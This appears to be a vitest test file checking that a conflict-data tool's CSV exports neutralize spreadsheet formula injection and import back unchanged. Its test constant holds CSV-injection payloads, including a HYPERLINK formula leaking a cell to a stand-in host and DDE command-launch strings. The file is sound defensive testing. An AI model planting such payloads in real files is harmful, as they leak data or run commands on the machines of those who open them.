/**
 * CSV ("formula") injection (issue 15, item 3): text that a spreadsheet would run as a formula leaves in
 * every CSV the product writes with a leading single quote, in quotes; numbers in numeric columns stay
 * numbers; and every file imports back to the text it was written from. The exported files are read
 * with Python's csv module, an independent reader.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { availableParallelism } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, neutralizeQuotedLines, restoreCell } from '../../src/core/csv-cell.js';
import type { ConflictEvent, Place } from '../../src/core/schemas.js';
import { csvLine, readCsvRecords } from '../../src/io/csv.js';
import { ACLED_COLUMNS, ACLED_EXPORT_FIELDS } from '../../src/io/acled.js';
import { exportTo, importFile, type ExportFormat } from '../../src/io/index.js';
import { eventCsvLineWriter, eventToRow } from '../../src/store/event-row.js';
import { openSqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import type { Store } from '../../src/store/store.js';
import { eventsCsv } from '../../web/src/events-csv.js';
import { demoStore, runCli, tempDir } from '../helpers.js';
import { event, place } from '../store/contract.js';

/** The starts OWASP lists, a real payload, and text that already starts with the quote this adds. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tinvisible', '\rcarriage', "'=already quoted", "''+quoted twice"];
const TRIGGER = /^[=+\-@\t\r]/;

function pythonCells(file: string, skipRows = 1): { header: string[]; rows: string[][] } {
  const out = execFileSync('python3', ['-c', 'import csv,sys,json\nr=list(csv.reader(open(sys.argv[1],encoding="utf-8",newline="")))\nprint(json.dumps(r))', file]);
  const all = JSON.parse(String(out)) as string[][];
  return { header: all[0]!, rows: all.slice(skipRows) };
}

/** Every cell a spreadsheet would run: none may be left, except plain numbers in numeric columns. */
function formulaCells(cells: { header: string[]; rows: string[][] }, numeric: readonly string[]): string[] {
  const bad: string[] = [];
  for (const r of cells.rows) {
    r.forEach((c, i) => {
      if (!TRIGGER.test(c)) return;
      if (numeric.includes(cells.header[i]!) && /^-?\d+(\.\d+)?$/.test(c)) return;
      bad.push(`${cells.header[i]}=${JSON.stringify(c)}`);
    });
  }
  return bad;
}

async function exportFile(store: Store, format: ExportFormat, query = {}): Promise<string> {
  let text = '';
  await exportTo(store, format, { query, write: (c) => void (text += typeof c === 'string' ? c : Buffer.from(c).toString('utf8')) });
  const file = join(tempDir('fl-formula-'), `${format}.csv`);
  writeFileSync(file, text);
  return file;
}

/** One event per payload, the payload in every text field a format carries; coordinates west and south. */
function payloadEvents(idOf: (i: number) => Partial<ConflictEvent>): ConflictEvent[] {
  return PAYLOADS.map((p, i) =>
    event(`e${i + 1}`, `2017-06-${String(10 + i).padStart(2, '0')}`, -3.7 - i / 10, -12.5 + i / 10, {
      actor1: p, actor2: p, assocActor1: p, assocActor2: p, admin1: p, admin2: p, admin3: p, location: p, notes: p, tags: p, country: p,
      sources: [{ name: p }], attributes: { region: p }, ...idOf(i),
    }),
  );
}

describe('neutralizeCell and restoreCell', () => {
  it('prefix a quote to exactly the cells that start with = + - @, tab or CR (after any quotes), and undo it', () => {
    for (const p of PAYLOADS) {
      const n = neutralizeCell(p);
      expect(n).toBe(`'${p}`);
      expect(restoreCell(n)).toBe(p);
    }
    for (const s of ['Deir ez-Zor', 'a=b', '', ' =x', "'quoted", "it's", '2017-06-18', '42', 'دير الزور']) {
      expect(neutralizeCell(s)).toBe(s);
      expect(restoreCell(s)).toBe(s);
    }
    // Text from elsewhere that starts with a trigger character is left as it is on the way in.
    expect(restoreCell('=SUM(1)')).toBe('=SUM(1)');
  });

  it('round-trip any text: restoreCell(neutralizeCell(s)) is s, and the result never starts a formula', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '"', ',', '\n'];
    let seed = 7;
    const rand = (n: number): number => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n);
    for (let k = 0; k < 5000; k++) {
      const s = Array.from({ length: rand(6) }, () => alphabet[rand(alphabet.length)]).join('');
      const n = neutralizeCell(s);
      expect(TRIGGER.test(n), JSON.stringify(s)).toBe(false);
      expect(restoreCell(n)).toBe(s);
    }
  });

  it('csvLine quotes neutralized text, keeps numbers (and plain numbers in numeric columns) bare', () => {
    expect(csvLine(['=1+1', -3.5, '-3.5', '-3.5', '-x'], new Set([3, 4]))).toBe(`"'=1+1",-3.5,"'-3.5",-3.5,"'-x"\n`);
  });

  it('neutralizeQuotedLines finds field starts only, never quotes inside a field', () => {
    const line = (cells: string[]): string => `SYR1,-3.5,${cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')}\n`;
    const cells = ['a,"=b', '=x', 'ok', '-y', 'c\n"=d', "'@z", '"=quoted"'];
    const text = line(cells) + line(['+1', 'plain']);
    expect(neutralizeQuotedLines(text)).toBe(line(cells.map(neutralizeCell)) + line(['+1', 'plain'].map(neutralizeCell)));
    expect(neutralizeQuotedLines(`"=at the start",1\n`)).toBe(`"'=at the start",1\n`);
  });

  it('the stores write what csvLine would for the same text (the JavaScript line writer, PostgreSQL)', () => {
    const e = payloadEvents((i) => ({ origin: { format: 'acled', id: `SYR${i}` } }))[0]!;
    const line = eventCsvLineWriter(ACLED_COLUMNS.map((c) => ACLED_EXPORT_FIELDS[c]))(eventToRow(e, 0));
    expect(line).toContain(`"'${PAYLOADS[0]!.replace(/"/g, '""')}"`);
    expect(line).toContain(',-12.5,-3.7,'); // latitude, longitude: numbers
  });

  it('readCsvRecords gives back the text before neutralization', async () => {
    const file = join(tempDir('fl-formula-'), 'r.csv');
    writeFileSync(file, csvLine(['a', 'b']) + csvLine(PAYLOADS.slice(0, 2)) + csvLine(PAYLOADS.slice(6, 8)));
    const rows: string[][] = [];
    for await (const r of readCsvRecords(file)) rows.push(r.fields);
    expect(rows.slice(1)).toEqual([PAYLOADS.slice(0, 2), PAYLOADS.slice(6, 8)]);
  });
});

describe('every CSV export neutralizes formulas and imports back to the same text', () => {
  const TEXT_FIELDS = ['actor1', 'actor2', 'location', 'notes', 'admin1', 'admin2'] as const;

  for (const [format, numeric, idOf, textFields] of [
    ['acled', ['latitude', 'longitude', 'fatalities', 'geo_precision', 'time_precision', 'year'], (i: number) => ({ origin: { format: 'acled', id: `SYR${i}` } }), [...TEXT_FIELDS, 'assocActor1', 'assocActor2', 'admin3', 'tags', 'country']],
    ['ucdp', ['latitude', 'longitude', 'best', 'low', 'high', 'id', 'year', 'where_prec', 'date_prec', 'type_of_violence'], (i: number) => ({ origin: { format: 'ucdp', id: String(100 + i) } }), TEXT_FIELDS],
    ['hxl', ['Latitude', 'Longitude', 'Fatalities', 'Geo precision'], () => ({}), [...TEXT_FIELDS, 'country']],
  ] as const) {
    for (const workers of format === 'acled' ? [false, true] : [false]) {
      it(`${format}${workers ? ' (written by worker threads)' : ''}: no cell starts a formula, negative coordinates stay numbers, the import gives the text back`, async (ctx) => {
        if (workers && availableParallelism() < 2) {
          if (process.env.CI === 'true') throw new Error('CI needs at least two cores to test the parallel export');
          ctx.skip();
        }
        const file = join(tempDir('fl-formula-'), 's.db');
        const store = openSqliteStore(file, workers ? { parallelExport: { minEvents: 2, partEvents: 2 } } : {});
        const events = payloadEvents(idOf);
        await store.putEvents(events, { by: 'test' });
        const out = await exportFile(store, format);
        const cells = pythonCells(out, format === 'hxl' ? 2 : 1);
        expect(cells.rows).toHaveLength(events.length);
        expect(formulaCells(cells, numeric)).toEqual([]);
        const lon = cells.header.indexOf(format === 'hxl' ? 'Longitude' : 'longitude');
        expect(cells.rows.map((r) => Number(r[lon]))).toEqual(events.map((e) => e.lon));
        const notesColumn = cells.header.indexOf(format === 'acled' ? 'notes' : format === 'ucdp' ? 'where_description' : 'Notes');
        expect(cells.rows.map((r) => r[notesColumn])).toEqual(PAYLOADS.map((p) => `'${p}`));

        const back = openSqliteStore(':memory:');
        const r = await importFile(back, format, out, { strict: true });
        expect(r).toMatchObject({ rejected: 0, committed: true, created: events.length });
        const read = [];
        for await (const e of back.streamEvents({})) read.push(e);
        for (const [i, e] of read.entries()) {
          for (const f of textFields) expect(e[f], `${e.id} ${f}`).toBe(PAYLOADS[i]);
          // ACLED and HXL trim source names (they split them on ";"); UCDP keeps the article as it is.
          expect(e.sources.map((s) => s.name)).toEqual([format === 'ucdp' ? PAYLOADS[i] : PAYLOADS[i]!.trim()]);
          expect([e.lon, e.lat]).toEqual([events[i]!.lon, events[i]!.lat]);
        }
        await store.close();
      });
    }
  }

  it('places and control CSV: names, sources and notes neutralized and given back; negative longitudes stay numbers', async () => {
    const store = openSqliteStore(':memory:');
    const places: Place[] = PAYLOADS.map((p, i) => place(`p${i}`, -70.6 + i, -33.4, { name: p, names: [p.replace(/\|/g, '!'), 'Other'], admin1: p, sources: [{ name: p }] }));
    await store.putPlaces(places, { by: 'test' });
    await store.putActors([{ id: 'a1', name: 'A', aliases: [], kind: 'state-military', sources: [] }], { by: 'test' });
    await store.putControlObservations(PAYLOADS.map((p, i) => ({ id: `o${i}`, place: `p${i}`, actor: 'a1', status: 'held', from: '2017-01-01', source: { name: p }, confidence: 0.5, notes: p })), { by: 'test' });
    const placesFile = await exportFile(store, 'places');
    const controlFile = await exportFile(store, 'control');
    expect(formulaCells(pythonCells(placesFile), ['lon', 'lat', 'population', 'geonames_id'])).toEqual([]);
    expect(formulaCells(pythonCells(controlFile), ['confidence'])).toEqual([]);
    const lon = pythonCells(placesFile).rows.map((r) => Number(r[4]));
    expect(lon).toEqual(places.map((p) => p.lon));

    const back = openSqliteStore(':memory:');
    await back.putActors([{ id: 'a1', name: 'A', aliases: [], kind: 'state-military', sources: [] }], { by: 'test' });
    expect(await importFile(back, 'places', placesFile, { strict: true })).toMatchObject({ rejected: 0, created: PAYLOADS.length });
    expect(await importFile(back, 'control', controlFile, { strict: true })).toMatchObject({ rejected: 0, created: PAYLOADS.length });
    const got = await back.listPlaces();
    for (const [i, p] of PAYLOADS.entries()) {
      const x = got.find((q) => q.id === `p${i}`)!;
      // Place names are trimmed on import: the payloads that begin with a tab or CR lose it there, not here.
      expect([x.name, x.admin1, x.sources[0]!.name]).toEqual([p.trim(), p.trim(), p.trim()]);
      expect(x.names).toEqual([p.replace(/\|/g, '!').trim(), 'Other']); // the first name starts the cell
    }
    const obs = await back.listControlObservations();
    expect(obs.map((o) => o.notes)).toEqual(PAYLOADS);
    await store.close();
  });

  it('the stabilization board as CSV (frontline stabilize --csv) neutralizes area names', async () => {
    const store = await demoStore('fl-formula-board-');
    const [area] = await store.listStabilizationAreas();
    await store.putStabilizationAreas([{ ...area!, name: PAYLOADS[0]! }], { by: 'test' });
    const db = store.location;
    await store.close();
    const r = await runCli('--db', db, 'stabilize', '--date', '2017-07-31', '--csv', '--no-exposure');
    expect(r.code).toBe(0);
    const file = join(tempDir('fl-formula-'), 'board.csv');
    writeFileSync(file, r.out);
    const cells = pythonCells(file);
    expect(formulaCells(cells, [])).toEqual([]);
    const name = cells.header.indexOf('name');
    expect(cells.rows.map((x) => x[name])).toContain(`'${PAYLOADS[0]}`);
  });

  it("the web app's CSV download neutralizes text and keeps coordinates as numbers", () => {
    const features: GeoJSON.Feature[] = PAYLOADS.map((p, i) => ({ type: 'Feature', geometry: { type: 'Point', coordinates: [-3.5 - i, -12] }, properties: { id: `e${i}`, date: '2017-06-18', type: 'Battles', subType: 'Armed clash', actor1: p, actor2: p, location: p, best: 3 } }));
    const file = join(tempDir('fl-formula-'), 'web.csv');
    writeFileSync(file, eventsCsv(features));
    const cells = pythonCells(file);
    expect(formulaCells(cells, ['longitude', 'latitude', 'best'])).toEqual([]);
    expect(cells.rows.map((r) => r[4])).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(cells.rows.map((r) => r[8])).toEqual(PAYLOADS.map((_, i) => String(-3.5 - i)));
  });
});
